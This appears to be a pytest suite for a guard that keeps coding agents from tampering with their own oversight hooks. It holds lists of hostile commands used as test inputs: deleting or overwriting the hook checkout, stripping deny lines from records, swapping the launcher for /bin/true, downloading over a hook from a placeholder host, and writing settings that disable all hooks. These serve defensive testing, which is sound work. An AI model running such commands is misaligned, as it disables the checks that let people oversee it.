"""What is ours to protect, by path: globs, detours, other cases and folders above are seen; scratch folders are not ours."""
from __future__ import annotations

import doctest
import json
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guards import ASK, DENY, EFFECTS, Event, Session, Settings, Verdict
from guards.self_protection import judge, places
from guards.self_protection.places import NOWHERE, above, fits, protected, settings_file
from tests import quick
from tests.bundles import archived
from tests.scripts import ROOT, Scripts
from tests.spelled import facts


def test_the_examples_run() -> None:
    assert doctest.testmod(places).failed == 0


@pytest.mark.parametrize(("path", "cwd", "place"), [
    ("/p/a.py", "/p", ""), ("guards.json", "/p", ""), ("/p/.autoskillit-notes/x", "", ""), ("/p/state/x", "", ""),
    ("/p/.autoskillit/recipes/x.yaml", "", ""), ("/tmp/x/.autoskillit/guards.json", "", ""), ("*", "/p", ""),
    ("/p/.auto/x", "", ""), ("", "/p", ""), ("/", "", ""),
    ("~/.autoskillit/bundle/x", "", ".autoskillit/bundle"), ("C:\\p\\.autoskillit\\temp\\x", "", ".autoskillit/temp"),
    ("/p/.AutoSkillit/GUARDS.json", "", ".autoskillit/guards.json"), (".", "/p/.autoskillit", ".autoskillit"),
    ("/p/./.autoskillit//guards.json", "", ".autoskillit/guards.json"), (".auto*/temp/*/*.jsonl", "/p", ".autoskillit/temp"),
    (".autoskillit/*", "/p", ".autoskillit/bundle"), ("~/.local/state/autoskillit/anchors/p", "", "state/autoskillit"),
])
def test_protected(path: str, cwd: str, place: str) -> None:
    assert protected(path, cwd, ("/p",)) == place


@pytest.mark.parametrize(("path", "cwd", "said"), [
    ("/home/dev/p", "", True), ("/home", "", True), ("..", "/home/dev/p", True), ("*", "/home/dev", True), (".", "/home/dev/p", True),
    ("/home/dev/p/src", "", False), ("/home/dev/q", "", False), ("build", "/home/dev/p", False)])
def test_above(path: str, cwd: str, said: bool) -> None:
    assert above(path, cwd, ("/home/dev/p",)) == said == above(path, cwd, ("/q", "/home/dev/p"))
    assert not above(path, cwd, NOWHERE)


@pytest.mark.parametrize(("path", "found"), [
    ("/p/.claude/settings.json", ".claude/settings.json"), ("~/.claude/sett*.json", ".claude/settings.json"),
    (".codex/hooks.json", ".codex/hooks.json"), ("app/settings.json", ""), ("/tmp/x/.claude/settings.json", ""),
    ("/p/.claude/settings.md", "")])
def test_settings_files(path: str, found: str) -> None:
    assert settings_file(path, ("/p",)) == found


def test_of_a_path_that_no_system_opens_the_beginning_is_read() -> None:
    assert len(places.segments("/x/" + "a/" * 100_000)) < 5000
    assert protected(".autoskillit/temp/" + "a/" * 100_000, "/p") == ".autoskillit/temp"


@given(st.text(max_size=30), st.text(max_size=12))
def test_any_pattern_is_answered(pattern: str, name: str) -> None:
    assert fits(name, name)
    assert fits(pattern, name) in (True, False)
    assert protected(pattern, name) in (*(f".autoskillit/{part}" for part in places.PARTS), ".autoskillit", "state/autoskillit", "")


# --- the hooks that run, where `install.py --link` uses a checkout in place

RUNNING = "/opt/g"
ARCHIVE = "hooks/__pycache__/PreToolUse.cpython-311.archive"


def settings(running: str = RUNNING) -> Settings:
    made = Settings()
    made.running = (running,) if running else ()
    return made


def said(tool: str, running: str = RUNNING, cwd: str = "/p", found: Any = None, **given: Any) -> Verdict:
    event = Event("PreToolUse", "s", tool=tool, input=given, cwd=cwd, project="/p", facts=facts(found or {"text": "\n".join(map(str, given.values()))}))
    return judge(event, Session("s"), settings(running))


SILENT = [
    "cat /opt/g/hooks/_run.py", "ls -la /opt/g/hooks/__pycache__ | head", "grep -rn judge /opt/g/guards", "cp /opt/g/hooks/_run.py /p/x.py", "wc -l /opt/g/hooks/*.py",
    "cp -r /opt/g/guards /p/", "tar czf /p/b.tgz /opt/g", "scp /opt/g/hooks/_run.py host:/x", "diff /p/a.py /opt/g/hooks/_run.py", "git -C /opt/g log -3", "cd /opt/g && git status",
    "mypy /opt/g/guards", "ruff check /opt/g/hooks", "cd /opt/g && python3 -m pytest -q tests/", "python3 /opt/g/install.py --check", "python3 /opt/g/hooks/guardctl.py status",
    "sed -n 1,20p /opt/g/hooks/_run.py", "find /opt/g/hooks -name '*.py' | xargs wc -l", "python3 -c \"print(open('/opt/g/hooks/_run.py').read())\"",
    # beside it, above it, another one
    "cp a.txt /opt/g/", "cp -r docs /opt/g/", "echo x > /opt/g/README.md", "cp a /opt/", "cp -r x/. /opt/", "rm -rf /opt/other", "cp x.py /other/g/hooks/_run.py", "rm -rf hooks/__pycache__",
    "echo x > /w/g/guards/x.py", "find . -name __pycache__ -exec rm -rf {} +", "find /opt -name '*.pyc' -delete", "find /opt/g -name __pycache__ -exec rm -rf {} +", "rm -rf ~/x", "rm hooks/x.py",
    # what is laid out over it, and what git puts there
    "cp -r x/. /opt/g/", "rsync -a x/ /opt/g/", "tar xf a.tgz -C /opt/g", "git -C /opt/g checkout other", "git -C /opt/g pull",
]
ASKED = [
    f"cp x /opt/g/{ARCHIVE}", f"mv x /opt/g/{ARCHIVE}", f"cat x | tee /opt/g/{ARCHIVE}", f"cat x > /opt/g/{ARCHIVE}", f"truncate -s 0 /opt/g/{ARCHIVE}", "cp a.py /opt/g/hooks/",
    "mv a.py /opt/g/hooks/_run.py", "mv /opt/g/guards/loss /tmp/", "echo x >> /opt/g/guards/drift.py", "install -m 644 x /opt/g/hook_registry.json", "sed -i s/a/b/ /opt/g/hooks/_run.py",
    "ln -sf /p/x.py /opt/g/hooks/_run.py", "chmod 000 /opt/g/hooks/_run.py", "dd if=x of=/opt/g/hooks/_run.py", "curl -o /opt/g/hooks/_run.py https://x.example/a", "rm -rf /opt/g", "rm -rf /opt/*",
    "mv /opt/g /opt/h", "cd ../opt; cd g && rm hooks/_run.py", "cd /opt/g; echo x > hooks/_run.py", "find /opt -type f -delete", "sh -c 'echo x > /opt/g/hooks/_run.py'", "black /opt/g/guards", "cp -r hooks /opt/g/",
    "python3 -c \"open('/opt/g/hooks/_run.py', 'w').write('')\"", "node -e \"require('fs').writeFileSync('/opt/g/guards/x.py', '')\"", "patch /opt/g/hooks/_run.py < x.diff",
]


@pytest.mark.parametrize("command", SILENT)
def test_silent(command: str) -> None:
    assert said("Bash", command=command).effect == 0, said("Bash", command=command).reason


@pytest.mark.parametrize("command", [*SILENT, *ASKED])
def test_a_checkout_that_does_not_run_is_nobody_s_concern(command: str) -> None:
    assert said("Bash", running="/elsewhere/gg", command=command).effect == 0


@pytest.mark.parametrize("command", ASKED)
def test_asked(command: str) -> None:
    verdict = said("Bash", command=command)
    assert verdict.effect == ASK and verdict.reason.startswith("self_protection: this command would change "), verdict.reason
    assert verdict.signals == ("guards_tampering",)


@pytest.mark.parametrize(("tool", "given", "effect"), [
    ("Write", {"file_path": "/opt/g/README.md"}, 0), ("Edit", {"file_path": "/p/hooks/_run.py"}, 0), ("Write", {"file_path": "/w/g/hooks/x.py"}, 0), ("Write", {"file_path": 3}, 0),
    ("Read", {"file_path": "/opt/g/hooks/_run.py"}, 0), ("mcp__fs__read_file", {"path": "/opt/g/hooks/_run.py"}, 0), ("mcp__fs__write_file", {"path": "/opt/g/docs/x.md"}, 0),
    ("Write", {"file_path": f"/opt/g/{ARCHIVE}"}, DENY), ("Edit", {"file_path": "/opt/g/hooks/_run.py"}, DENY), ("Edit", {"file_path": "/p/../opt/g/guards/loss/__init__.py"}, DENY),
    ("NotebookEdit", {"notebook_path": "/opt/g/hooks/x.ipynb"}, DENY), ("MultiEdit", {"file_path": "/opt/G/hook_registry.json"}, DENY),
    ("apply_patch", {"input": "*** Begin Patch\n*** Update File: /opt/g/hooks/_run.py\n@@\n"}, DENY), ("mcp__fs__write_file", {"path": "/opt/g/hooks/_run.py"}, ASK),
])
def test_tools(tool: str, given: dict[str, Any], effect: int) -> None:
    assert EFFECTS[said(tool, **given).effect] == EFFECTS[effect]
    assert said(tool, running="", **given).effect == 0


def test_a_folder_is_known_by_other_names_of_it() -> None:
    for one in ("/home/ann/g", "/users/ann/g", "/root/g", "c:/users/ann/g"):
        assert protected("~/g/hooks/x.py", "/p", ("/p", one)) == "g/hooks"
    assert protected("/c/g/hooks/x.py", "/p", ("/p", r"C:\g")) == "g/hooks" and not protected("/d/g/hooks/x.py", "/p", ("/p", r"C:\g"))
    assert not protected("~/g/hooks/x.py", "/p", ("/p", RUNNING)) and not protected("~/hooks/x.py", "/p", ("/p", RUNNING))
    assert not protected("/opt/gg/hooks", "/p", ("/p", RUNNING))


SHARED = "/home/ann/.local/share/autoskillit-guards"


@pytest.mark.parametrize(("command", "effect"), [
    (f"ls {SHARED}/1.0-ab", 0), (f"cat {SHARED}/1.0-ab/hooks/_run.py", 0), (f"python3 {SHARED}/1.0-ab/hooks/guardctl.py status", 0),
    ("du -sh ~/.local/share/*", 0), (f"rm -rf {SHARED}/1.0-ab", ASK), ("rm -rf ~/.local/share/autoskillit-guards", ASK), ("rm -rf ~/.local/share/*", ASK), ("rm -rf ~/.local/share/Trash/*", 0),
    (f"echo x > {SHARED}/python", ASK),
    (f"python3 {SHARED}/1.0-ab/hooks/user_prompt_submit.py < x.json", ASK), (f"sed -i s/a/b/ {SHARED}/*/hooks/_run.py", ASK),
])
def test_the_copies_that_projects_share_are_ours_as_a_whole(command: str, effect: int) -> None:
    assert said("Bash", running=SHARED, command=command).effect == effect


@pytest.fixture(scope="module")
def linked(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """(a project, the checkout that `install.py --link` made it use)."""
    above = tmp_path_factory.mktemp("linked")
    checkout, project = above / "checkout", above / "project"
    shutil.copytree(archived(tmp_path_factory), checkout)
    for name in ("install.py", "LICENSE"):
        shutil.copy2(ROOT / name, checkout)
    (project / "hooks").mkdir(parents=True)
    (above / "other/hooks").mkdir(parents=True)
    done = subprocess.run([sys.executable, str(checkout / "install.py"), "--link"], cwd=project, capture_output=True, text=True,
                          env=Scripts(project).env, timeout=120, check=False)
    assert done.returncode == 0, done.stdout + done.stderr
    return project, checkout


def decided(linked: tuple[Path, Path], tool: str, given: dict[str, Any], project: Path | None = None, cwd: Path | None = None) -> str:
    """What the installed command answers where it speaks of the guards themselves."""
    where = project or linked[0]
    payload = {"session_id": "s", "hook_event_name": "PreToolUse", "cwd": str(cwd or where), "tool_name": tool, "tool_use_id": "t", "tool_input": given}
    done = subprocess.run(["sh", "-c", '(. "$0") || exit 1', str(linked[0] / ".autoskillit/hook"), "pre_tool_use"], input=json.dumps(payload), capture_output=True,
                          text=True, env={**Scripts(where).env, "AUTOSKILLIT_PYTHON": sys.executable}, timeout=60, check=False)
    assert done.returncode == 0 and not done.stderr, done.stderr
    answer = json.loads(done.stdout)["hookSpecificOutput"] if done.stdout.strip() else {}
    return str(answer["permissionDecision"]) if answer and "self_protection: " in answer["permissionDecisionReason"] else ""


def test_an_installation_that_uses_a_checkout_in_place_protects_it(linked: tuple[Path, Path]) -> None:
    checkout = linked[1]
    archive = next((checkout / "hooks/__pycache__").glob("PreToolUse.*.archive"))
    for call in quick.few(({"command": f"cat {archive}"}, {"command": f"ls {checkout}/hooks/__pycache__"}, {"command": f"cp x {checkout.parent}/other/hooks/_run.py"},
                           {"command": "rm -rf hooks/__pycache__"}, {"command": f"grep -rn judge {checkout}/guards | head"}), 2):
        assert decided(linked, "Bash", call) == "", call
    for path in (checkout / "README.md", linked[0] / "hooks/_run.py", checkout.parent / "other/hooks/_run.py"):
        assert decided(linked, "Write", {"file_path": str(path), "content": "x"}) == ""
    for path in quick.few((archive, checkout / "hooks/_run.py", checkout / "guards/drift.py", checkout / "hook_registry.json"), 1):
        assert decided(linked, "Write", {"file_path": str(path), "content": "x"}) == "deny"
        assert decided(linked, "Edit", {"file_path": str(path), "old_string": "x", "new_string": "y"}) == "deny"
        for command in (f"cp x {path}", f"mv x {path}", f"cat x | tee {path}", f"cat x > {path}", f"rm {path}"):
            assert decided(linked, "Bash", {"command": command}) == "ask", command
    assert decided(linked, "Bash", {"command": "cp x hooks/_run.py"}, cwd=checkout) == "ask"


def test_whose_project_is_the_checkout_works_on_it_as_before(linked: tuple[Path, Path], tmp_path: Path) -> None:
    checkout = linked[1]
    (tmp_path / "name").symlink_to(checkout)
    for project in (checkout, checkout / "guards", checkout.parent, tmp_path / "name"):
        for name in ("hooks/_run.py", "guards/drift.py"):
            assert decided(linked, "Write", {"file_path": str(checkout / name), "content": "x"}, project) == ""
            assert decided(linked, "Bash", {"command": f"cp x {checkout / name}"}, project) == ""


# --- a job's own folder, beside the checkout: code, settings, launchers and records of `install.py --ci`

JOB = "/tmp/r/job"
OF_A_JOB = ("/tmp/r/job/.autoskillit", "/tmp/r/job/")


def of_a_job(tool: str, **given: Any) -> Verdict:
    event = Event("PreToolUse", "s", tool=tool, input=given, cwd="/tmp/r/p", project="/tmp/r/p", facts=facts({"text": ""}))
    made = Settings()
    made.running = OF_A_JOB
    return judge(event, Session("s"), made)


@pytest.mark.parametrize("command", [
    f"cat {JOB}/.autoskillit/guards.json", f"ls -la {JOB}", "rm -rf ../jobs", "rm -rf /tmp/r/job2", "cp a /tmp/r/guards.xml", "rm -rf build",
    "rm -rf /tmp/other/.autoskillit", f"{JOB}/.autoskillit/guardctl status", "echo job > notes.txt", f"grep -rn deny {JOB}/.autoskillit/temp",
    "cd /tmp/r/other && rm -rf .autoskillit", "mv job job2"])
def test_beside_a_job_s_folder_it_is_silent(command: str) -> None:
    assert of_a_job("Bash", command=command).effect == 0, of_a_job("Bash", command=command).reason


@pytest.mark.parametrize("command", [
    f"rm -rf {JOB}/.autoskillit/temp", f"rm -rf {JOB}", "rm -rf /tmp/r", f"mv {JOB} {JOB}x", "mv ../job ../x", "cd ../job && rm -rf .autoskillit", "cd .. && rm -rf job/",
    f"sed -i /deny/d {JOB}/.autoskillit/temp/context/s1.jsonl", f"cp /bin/true {JOB}/.autoskillit/local/python", f"cd {JOB}; rm -rf .auto*",
    f"echo /bin/true > {JOB}/.autoskillit/local/python", f"echo x > {JOB}/.autoskillit/pinned", f"echo '{{}}' > {JOB}/settings.json", f"chmod -R 000 {JOB}",
    f"truncate -s 0 {JOB}/.autoskillit/temp/key", f"find {JOB} -name '*.jsonl' -delete", f"ln -sfn /tmp/x {JOB}/.autoskillit", "rm -rf /tmp/r/j*",
    f"sh {JOB}/.autoskillit/hook pre_tool_use < x.json", f"python3 -c \"open('{JOB}/.autoskillit/temp/context/s1.jsonl', 'w')\"",
    f"tar xf x.tgz -C {JOB}", f"python3 -c \"import shutil; shutil.rmtree('{JOB}')\""])
def test_a_job_s_folder_is_ours_wherever_it_lies(command: str) -> None:
    verdict = of_a_job("Bash", command=command)
    assert verdict.effect == ASK and verdict.reason.startswith("self_protection: this command "), verdict.reason


@pytest.mark.parametrize(("path", "effect"), [
    ("/tmp/r/guards.xml", 0), ("/tmp/r/p/settings.json", 0), ("/tmp/r/p/job/x.py", 0), (f"{JOB}/settings.json", DENY), (f"{JOB}/.autoskillit/pinned", DENY),
    (f"{JOB}/.autoskillit/local/python", DENY), (f"{JOB}/.autoskillit/temp/context/s1.jsonl", DENY), ("../job/.autoskillit/hook", DENY), (f"{JOB}/guards.json", DENY)])
def test_no_editing_tool_writes_there(path: str, effect: int) -> None:
    assert of_a_job("Write", file_path=path, content="x").effect == effect
    assert of_a_job("Edit", file_path=path, old_string="deny", new_string="pass").effect == effect


# --- an agent's home that a variable moved: what its files are called there

MOVED = ".codex=/srv/c"


@pytest.mark.parametrize("command", [
    "cat /srv/c/hooks.json", "cp /srv/c/hooks.json /tmp/", "rm -rf /srv/c/sessions", "echo x > /srv/c/AGENTS.md", "echo x > /srv/hooks.json", "rm /srv/codex/hooks.json", "rm -rf /srv/cc", "find . -name __pycache__ -exec rm -rf {} +"])
def test_other_files_in_a_moved_home_are_nobody_s_concern(command: str) -> None:
    assert said("Bash", running=MOVED, command=command).effect == 0


@pytest.mark.parametrize("command", [
    "echo '{}' > /srv/c/hooks.json", "rm -rf /srv/c", "rm /srv/c/*.json", "sed -i /hooks/d /srv/c/config.toml", "cd /srv/c && rm hooks.json", "mv /srv/c /srv/d", "python3 -c \"open('/srv/c/hooks.json', 'w').write('')\""])
def test_an_agent_s_files_in_a_moved_home_are_asked_about(command: str) -> None:
    assert said("Bash", running=MOVED, command=command).effect == ASK and said("Bash", running="", command=command).effect == 0


@pytest.mark.parametrize(("moved", "path", "given", "stopped"), [
    (MOVED, "/srv/c/config.toml", {"content": "model = 1"}, False), (".claude=/srv/k", "/srv/k/settings.json", {"content": '{"model": "m"}'}, False),
    (MOVED, "/srv/c/config.toml", {"content": "[features]\nhooks = false"}, True), (".claude=/srv/k", "/srv/k/settings.json", {"content": '{"disableAllHooks": true}'}, True),
    (".gemini/trustedfolders.json=/srv/t.json", "/srv/t.json", {"content": "{}"}, True),
    (".config/opencode=/srv/o", "/srv/o/plugin/autoskillit.js", {"content": ""}, True)])
def test_an_edit_in_a_moved_home(moved: str, path: str, given: dict[str, str], stopped: bool) -> None:
    verdict = said("Write", running=moved, found={"file": ""}, file_path=path, **given)
    assert (verdict.effect == DENY) is stopped and (not stopped or said("Write", running="", file_path=path, **given).effect == 0)
